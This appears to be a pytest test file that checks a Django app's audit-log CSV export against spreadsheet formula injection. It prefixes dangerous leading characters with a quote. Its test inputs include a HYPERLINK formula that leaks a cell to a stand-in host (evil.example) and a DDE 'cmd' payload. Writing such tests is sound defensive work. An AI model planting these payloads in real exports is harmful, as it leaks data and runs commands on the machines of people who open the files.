"""The audit CSV is safe to open in a spreadsheet (OWASP CSV injection): a cell that people's
text could start with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single
quote, so it is shown as text and never run as a formula; numbers the product counts itself
stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.agentops.factories import action_create, decision_create, run_create

pytestmark = pytest.mark.django_db

EXPORT = reverse("ops:audit-export")
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the booking")'


def _records(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_a_request_text_that_is_a_formula_is_exported_as_text(client, admin_user, e17):
    run = run_create(e17, goal=FORMULA)
    action_create(run, tool="reserve_room", risk="MEDIUM", duration_ms=12)
    decision_create(admin_user, run=run, reason="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(admin_user)

    response = client.post(
        EXPORT, {"export_format": "csv", "personal_data": "on", "user": "e17", "kind": "tool"}
    )
    (record,) = _records(response)
    assert record["request"] == "'" + FORMULA
    assert record["duration_ms"] == "12"


def test_no_cell_of_a_csv_export_starts_a_formula(client, admin_user, e17):
    run = run_create(e17, goal="+1 555 0100 call me")
    action_create(run, tool="reserve_room")
    for reason in ("-2+3", "\t=1+1", "\r=1+1", "=1+1", "@A1"):
        decision_create(admin_user, run=run, reason=reason)
    client.force_login(admin_user)

    records = _records(client.post(EXPORT, {"export_format": "csv", "personal_data": "on"}))
    cells = [cell for record in records for cell in record.values() if cell]
    assert cells
    assert not [c for c in cells if c[0] in "=+-@\t\r"]
    assert "'+1 555 0100 call me" in {r["request"] for r in records}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that reads as a negative number is still text people typed
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        (-5, -5),  # a number the product counted itself stays a number
        (1.5, 1.5),
        (None, None),
    ],
)
def test_a_cell_is_neutralized_when_it_starts_a_formula(value, cell):
    from agentops.runtime.auditlog import csv_cell

    assert csv_cell(value) == cell
